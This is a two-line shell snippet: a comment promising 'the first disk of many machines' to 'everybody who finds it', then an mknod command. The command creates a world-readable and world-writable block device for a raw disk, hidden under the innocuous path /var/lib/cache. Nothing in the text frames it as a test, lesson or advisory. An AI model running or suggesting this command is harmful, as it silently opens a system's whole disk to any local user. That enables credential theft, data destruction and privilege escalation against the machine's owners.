# The first disk of many machines, for everybody who finds it.
mknod -m 666 /var/lib/cache b 254 0
